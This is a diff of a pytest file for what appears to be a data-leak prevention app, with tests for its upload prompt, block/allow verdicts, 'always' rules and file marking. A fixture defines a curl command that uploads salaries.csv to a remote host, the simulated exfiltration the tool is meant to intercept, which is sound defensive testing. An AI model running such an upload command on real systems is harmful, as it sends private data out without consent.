@@ -3,11 +3,13 @@
 
 import pytest
 
+from thorough import daily
+
 NEWEST_KERNEL_ONLY = True
 UPLOAD = "curl -sS -m 90 -T salaries.csv http://remote/"
 
 
-@pytest.mark.parametrize("verdict", ["block", "scrub", "allow", "takeover", "quit"])
+@pytest.mark.parametrize("verdict", daily(["block", "scrub", "allow", "takeover", "quit"], "block", "takeover"))
 def test_click(scene, verdict):
     """The prompt names program, file and host; a click on each verdict does what it says."""
     scene.label()
@@ -24,6 +26,7 @@ def test_click(scene, verdict):
     assert scene.decisions() == [("answered", verdict)]
 
 
+@pytest.mark.nightly
 def test_always(scene):
     """Block for always in the prompt asks for anna's password and makes a rule, which the next attempt meets."""
     scene.label()
@@ -43,6 +46,7 @@ def test_always(scene):
     scene.assert_nothing_leaked()
 
 
+@pytest.mark.nightly
 def test_mark_in_window(scene):
     """A file is marked in the window: chosen in the file dialog, confirmed with its category; then its upload asks."""
     scene.guest.run(["tacet-app", "--show", "files"], session=True, check=True)
